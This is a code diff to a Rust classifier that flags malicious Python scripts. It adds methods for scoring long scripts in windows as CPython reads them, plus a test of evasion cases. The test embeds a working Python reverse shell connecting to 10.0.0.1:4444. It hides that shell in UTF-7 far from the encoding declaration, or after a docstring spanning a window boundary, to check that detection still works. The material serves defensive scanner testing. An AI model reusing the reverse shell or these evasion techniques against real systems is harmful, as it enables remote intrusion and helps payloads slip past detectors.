@@ -60,6 +60,13 @@ impl Classifier {
     pub fn explain(&self, src: &str) -> Verdict {
         self.model.explain(&source::as_interpreted(src))
     }
+
+    /// Scores and explains `text` already read as CPython reads it
+    /// ([`shrike_core::ScriptClassifier::interpret`]), such as the window of a long script
+    /// that scored highest: not decoded again.
+    pub fn explain_interpreted(&self, text: &str) -> Verdict {
+        self.model.explain(text)
+    }
 }
 
 impl shrike_core::ScriptClassifier for Classifier {
@@ -76,11 +83,27 @@ impl shrike_core::ScriptClassifier for Classifier {
     }
 
     fn explain(&self, source: &str) -> shrike_core::ScriptVerdict {
-        let v = self.model.explain(&source::as_interpreted(source));
+        shrike_core::ScriptClassifier::explain_interpreted(self, &source::as_interpreted(source))
+    }
+
+    fn interpret<'s>(&self, head: &str, part: &'s str) -> std::borrow::Cow<'s, str> {
+        source::part_as_interpreted(head, part)
+    }
+
+    fn score_interpreted(&self, text: &str) -> f32 {
+        self.model.score(text)
+    }
+
+    fn explain_interpreted(&self, text: &str) -> shrike_core::ScriptVerdict {
+        let v = self.model.explain(text);
         shrike_core::ScriptVerdict {
             score: v.score,
             reasons: v.reasons_text(),
         }
+    }
+
+    fn resume_points(&self, text: &str, from: &[usize]) -> Vec<shrike_core::event::ResumePoint> {
+        lexer::resume_points(text, from)
     }
 }
 
@@ -132,5 +155,94 @@ mod tests {
             .collect();
         let hidden = format!("# coding: unicode_escape\n{escaped}\n");
         assert!(c.score(&hidden) >= c.threshold());
+    }
+
+    /// The classifier as it was before windows read a script as a whole: each window read
+    /// (decoded) on its own, and started at a line's start wherever that falls.
+    struct WindowsReadAlone<'c>(&'c Classifier);
+
+    impl shrike_core::ScriptClassifier for WindowsReadAlone<'_> {
+        fn model_name(&self) -> &str {
+            self.0.model_name()
+        }
+        fn score(&self, source: &str) -> f32 {
+            self.0.score(source)
+        }
+        fn threshold(&self) -> f32 {
+            self.0.threshold()
+        }
+    }
+
+    /// `n` bytes or a little more of ordinary request handlers.
+    fn handlers(n: usize, tag: &str) -> String {
+        let mut out = String::new();
+        let mut i = 0;
+        while out.len() < n {
+            out.push_str(&format!(
+                "def handler_{tag}_{i}(request, context):\n    value = request.get('key_{i}')\n    return value\n\n"
+            ));
+            i += 1;
+        }
+        out
+    }
+
+    const SHELL: &str = "import socket,subprocess,os\n\
+        s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n\
+        s.connect((\"10.0.0.1\",4444))\n\
+        os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n\
+        p=subprocess.call([\"/bin/sh\",\"-i\"])\n";
+
+    #[test]
+    fn a_long_script_is_windowed_as_cpython_reads_the_whole_of_it() {
+        use shrike_core::event::{
+            score_python_windows, PYTHON_SCORED_BYTES as W, PYTHON_WINDOW_OVERLAP,
+        };
+        let c = Classifier::embedded(None).unwrap();
+        let alone = WindowsReadAlone(&c);
+        let flagged = |script: &str, classifier: &dyn shrike_core::ScriptClassifier| {
+            let size = script.len() as u64;
+            let scored = score_python_windows(script.as_bytes(), None, size, classifier);
+            assert!(scored.windows >= 3, "{}", scored.windows);
+            scored.score >= c.threshold()
+        };
+        assert!(c.score(SHELL) >= c.threshold());
+
+        // An encoding declared in the first line counts for all of the script: the shell
+        // hidden in UTF-7 runs in its middle, 1.5 MB from the declaration.
+        let encoded: String = SHELL.lines().map(|l| utf7(l) + "\n").collect();
+        let declared = format!(
+            "# -*- coding: utf-7 -*-\n{}{encoded}{}",
+            handlers(1_500_000, "a"),
+            handlers(1_500_000, "b")
+        );
+        assert!(flagged(&declared, &c));
+        assert!(
+            !flagged(&declared, &alone),
+            "read window by window, the middle is not decoded"
+        );
+
+        // A docstring across the start of the second window, and the shell after it, past the
+        // end of the first: a window started inside the docstring reads its text as code and
+        // the shell as a string.
+        let second = W - PYTHON_WINDOW_OVERLAP;
+        let mut across = handlers(second - 200, "a");
+        across.truncate(across[..second - 200].rfind("\n\n").unwrap() + 2);
+        across.push_str("NOTES = \"\"\"\n");
+        let mut k = 0;
+        while across.len() < W + 500 {
+            across.push_str(&format!("note {k} on the handlers and their requests\n"));
+            k += 1;
+        }
+        across.push_str("\"\"\"\n");
+        across.push_str(SHELL);
+        across.push_str("DOC = \"\"\"\nmore about the handlers\n\"\"\"\n");
+        across.push_str(&handlers(3 * W - across.len(), "b"));
+        assert!(flagged(&across, &c));
+        assert!(
+            !flagged(&across, &alone),
+            "started inside the docstring, the second window reads the shell as a string"
+        );
+        // Benign all the same when the shell is left out.
+        assert!(!flagged(&across.replace(SHELL, ""), &c));
     }
 }
